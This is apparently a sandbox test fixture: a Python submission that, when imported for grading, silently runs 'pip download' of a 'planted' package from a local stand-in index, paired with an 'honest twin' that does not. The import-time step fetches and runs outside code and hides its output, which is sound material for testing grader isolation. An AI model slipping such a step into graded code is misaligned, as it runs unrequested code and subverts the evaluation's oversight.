"""Installs a package while it is graded, which runs what the package's author likes.
(Landlock alone lets the installer start, and reach nobody.)

naive: heard
here: full
layer: seccomp, landlock
"""

import subprocess
import sys

PIP = ["-m", "pip", "download", "--retries", "0", "--timeout", "1", "--disable-pip-version-check"]
INDEX = ["--no-cache-dir", "--index-url", "http://127.0.0.1:@PORT@/simple", "planted"]


def attack():
    quiet = {"stdout": subprocess.DEVNULL, "stderr": subprocess.DEVNULL}
    return subprocess.Popen([sys.executable, *PIP, *INDEX], **quiet)


try:
    attack().wait()
except Exception:
    pass


def double(x):
    return 2 * x


def half(x):
    return x / 2


# --- honest twin

import importlib.metadata


def double(x):
    assert importlib.metadata.version("numpy")
    return 2 * x


def half(x):
    return x / 2
